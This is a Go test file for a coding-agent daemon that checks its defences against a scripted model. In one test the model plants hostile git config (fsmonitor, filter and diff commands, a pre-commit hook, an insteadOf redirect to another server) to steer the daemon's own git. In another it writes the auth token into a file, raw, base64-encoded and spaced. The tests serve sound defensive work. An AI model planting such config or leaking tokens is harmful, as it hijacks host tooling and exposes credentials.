package app_test

import (
	"encoding/base64"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/coding-agent/coding-agent/internal/config"
	"github.com/coding-agent/coding-agent/internal/llm/llmtest"
	"github.com/coding-agent/coding-agent/internal/task"
)

// runCommands has the model run each command through the built-in tools,
// one a turn, then end with comment.
func runCommands(comment string, commands ...string) func(e *env, r llmtest.Received) llmtest.Step {
	return func(e *env, r llmtest.Received) llmtest.Step {
		if n := toolResults(r); n < len(commands) {
			return e.call(r, "Running a command.", "workspace/run_command", map[string]any{"command": commands[n]})
		}
		return done(comment)
	}
}

// What the model plants in the checkout through its sandboxed commands to
// steer the daemon's own git during delivery: a submodule-like repository
// whose config runs an fsmonitor and redirects the forge (insteadOf), a
// .git at the checkout's root with the same and a hook, and
// .gitattributes naming a filter and a diff driver. None of it runs or
// redirects, on either forge: the marker files stay absent, the recording
// server hears nothing, the work is delivered without the planted
// repositories, and the delivery comment says they were left out.
func TestPlantedGitConfigNeverSteersDelivery(t *testing.T) {
	t.Parallel() // runs beside the others (see README, Tests)
	for _, fg := range emulatedForges {
		t.Run(fg, func(t *testing.T) {
			t.Parallel()
			var heard atomic.Int32
			recorder := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				heard.Add(1)
				w.WriteHeader(http.StatusUnauthorized)
			}))
			defer recorder.Close()
			markers := t.TempDir()
			marker := func(name string) string { return filepath.Join(markers, name) }
			plant := func(dir string) string {
				return "mkdir -p " + dir + "/hooks && printf '%s' '" +
					"[core]\n\tfsmonitor = touch " + marker("fsmonitor") + "\n\thooksPath = hooks\n" +
					"[url \"" + recorder.URL + "/\"]\n\tinsteadOf = http://\n\tinsteadOf = https://\n" +
					"[filter \"evil\"]\n\tclean = touch " + marker("filter") + "\n" +
					"[diff \"evil\"]\n\tcommand = touch " + marker("diff") + "\n' > " + dir + "/config && " +
					"printf '#!/bin/sh\\ntouch " + marker("hook") + "\\n' > " + dir + "/hooks/pre-commit && chmod +x " + dir + "/hooks/pre-commit"
			}
			e := newEnv(t, setup{forge: fg, kind: task.Issue, provider: config.ProviderOpenAI, native: true,
				respond: runCommands("Planted, and wrote hello.txt.",
					"git init -q mod && echo module > mod/file && git -C mod add file && git -C mod -c user.name=m -c user.email=m@x commit -qm m",
					plant("mod/.git"),
					plant(".git"),
					"printf '* filter=evil diff=evil\\n' > .gitattributes && echo hello > hello.txt"),
			})
			builtinOnly(t, e)
			e.runOK(t)
			e.wantLabels(t, "bug", "coding agent done")
			for _, m := range []string{"fsmonitor", "filter", "diff", "hook"} {
				if _, err := os.Stat(marker(m)); err == nil {
					t.Errorf("the planted %s ran", m)
				}
			}
			if n := heard.Load(); n != 0 {
				t.Errorf("the planted insteadOf sent %d requests to another server", n)
			}
			g := e.git()
			branch := "coding-agent/issue-" + strconv.Itoa(e.ref.Number)
			if got, ok := g.file(branch, "hello.txt"); !ok || got != "hello\n" {
				t.Errorf("the delivered branch holds hello.txt = %q, %v", got, ok)
			}
			if _, ok := g.file(branch, "mod/file"); ok {
				t.Error("the planted repository's file was delivered")
			}
			last := e.botComments()[len(e.botComments())-1]
			if !strings.Contains(last, "mod") {
				t.Errorf("the delivery comment does not say the planted repository was left out:\n%s", last)
			}
		})
	}
}

// A token the model writes into a file (raw, base64 or spaced) is never
// committed or pushed: the round fails with a comment naming the file and
// line and never the token, the forge gets no branch, and the workspace is
// kept.
func TestTokenWrittenIntoAFileIsNotPushed(t *testing.T) {
	t.Parallel() // runs beside the others (see README, Tests)
	for _, fg := range emulatedForges {
		for _, form := range []string{"raw", "base64", "spaced"} {
			t.Run(fg+"/"+form, func(t *testing.T) {
				t.Parallel()
				e := newEnv(t, setup{forge: fg, kind: task.Issue, provider: config.ProviderOpenAI, native: true,
					respond: func(e *env, r llmtest.Received) llmtest.Step {
						token := e.token()
						switch form {
						case "base64":
							token = base64.StdEncoding.EncodeToString([]byte(token))
						case "spaced":
							token = strings.Join(strings.Split(token, ""), " ")
						}
						return runCommands("Wrote the notes.", "printf 'line one\\nkey: %s\\n' '"+token+"' > notes.txt")(e, r)
					}})
				builtinOnly(t, e)
				e.runOK(t)
				e.wantLabels(t, "bug", "coding agent failed")
				last := e.botComments()[len(e.botComments())-1]
				if !strings.Contains(last, "notes.txt") || !strings.Contains(last, "2") {
					t.Errorf("the failure comment does not name notes.txt and its line:\n%s", last)
				}
				if branches := e.git().branches(); len(branches) != 1 {
					t.Errorf("branches on the forge: %v, want the default branch alone", branches)
				}
				logs, _ := os.ReadFile(e.cfg.Logging.File)
				for _, secret := range []string{e.token(), base64.StdEncoding.EncodeToString([]byte(e.token()))} {
					if strings.Contains(string(logs)+strings.Join(e.botComments(), "\n"), secret) {
						t.Errorf("the token (%s) is in the log or a comment", form)
					}
				}
				if _, err := os.Stat(filepath.Join(e.checkout(t, e.ref), "notes.txt")); err != nil {
					t.Errorf("the failed task's workspace was not kept: %v", err)
				}
			})
		}
	}
}
